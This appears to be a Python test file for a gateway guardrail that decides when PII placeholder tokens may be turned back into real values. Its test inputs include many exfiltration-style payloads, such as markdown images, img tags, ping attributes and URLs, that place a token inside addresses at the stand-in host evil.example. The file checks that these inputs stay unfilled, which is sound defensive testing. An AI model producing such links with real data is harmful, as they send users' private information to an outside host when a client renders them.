"""A value is not put into an address that somebody else chose: whoever it belongs to would be sent it as soon as a client loads it."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from secure_gateway.plugins.guardrails.pii_addresses import addresses_of, outside_addresses
from secure_gateway.plugins.guardrails.pii_tokens import with_values

VALUE = "ann@example.org"


def restored(text: str, known: frozenset[str] = frozenset()) -> str:
    filled = with_values({"t": [text]}, lambda _kind, _number: VALUE, outside_addresses(known))
    return str(filled["t"][0])


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/p.png?d=<EMAIL_1>)",
        "https://evil.example/<EMAIL_1>",
        "HTTPS://evil.example/#<EMAIL_1>",
        "https:evil.example/<EMAIL_1>",
        "https:/evil.example/<EMAIL_1>",
        "https:\\\\evil.example\\<EMAIL_1>",
        "<img src=//evil.example/<EMAIL_1>>",
        "<img src='https://evil.example/? d=<EMAIL_1>'>",
        '<a ping="https://evil.example/\n<EMAIL_1>">',
        "![x](<https://evil.example/? <EMAIL_1>>)",
        "https://<EMAIL_1>.evil.example/",
        "https://<EMAIL_1>@evil.example/",
        "ws://evil.example/<EMAIL_1>",
        "url(https://evil.example/<SSN_2>,<EMAIL_1>)",
        "https://evil.example/?" + "a" * 100_000 + "<EMAIL_1>",
    ],
)
def test_within_an_address_a_token_stays_one(text: str) -> None:
    assert restored(text) == text


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("", ""),
        ("mail ", " at once"),
        ("mailto:", ""),
        ("see https://a.example/x and write to ", "."),
        ("[", "](https://a.example/)"),
        ("a < b, ", " / c // d"),
        ("// ", ""),
        ("<a href='https://a.example/'>", "</a>"),
        ("1:2 c:", ""),
    ],
)
def test_beside_an_address_it_becomes_the_value(before: str, after: str) -> None:
    assert restored(f"{before}<EMAIL_1>{after}") == before + VALUE + after


def test_an_address_that_the_request_held_may_come_back_as_it_was_and_no_other() -> None:
    sent = addresses_of({"q": ["look at https://a.example/?m=<EMAIL_1>.", {"https://a.example/<EMAIL_1>": 1}]})
    assert restored("(https://a.example/?m=<EMAIL_1>)", sent) == f"(https://a.example/?m={VALUE})"
    assert restored("https://a.example/<EMAIL_1>", sent) == f"https://a.example/{VALUE}"
    for other in ("https://a.example/?m=<EMAIL_1>&x=<EMAIL_2>", "https://a.example.evil.example/?m=<EMAIL_1>"):
        assert restored(other, sent) == other


def test_of_many_tokens_each_is_judged_by_its_own_place() -> None:
    text = "<EMAIL_1> https://a.example/<EMAIL_1> <EMAIL_2> //b.example/<EMAIL_1> <EMAIL_3>"
    assert restored(text) == f"{VALUE} https://a.example/<EMAIL_1> {VALUE} //b.example/<EMAIL_1> {VALUE}"


@pytest.mark.parametrize("piece", ["//", "https:", "'https://", "<https://", "https:<EMAIL_1>", "//<EMAIL_1> ", '"//'])
def test_texts_that_look_like_nothing_but_addresses_are_gone_through_once(piece: str) -> None:
    restored(piece * 200_000 + " <EMAIL_1>")


@given(st.text(alphabet="ht:/\\ps\"'<> EMAIL_1\n.", max_size=80))
def test_no_text_makes_it_fail_and_nothing_but_tokens_changes(text: str) -> None:
    filled = restored(text)
    if "<EMAIL_1" not in text:
        assert filled == text
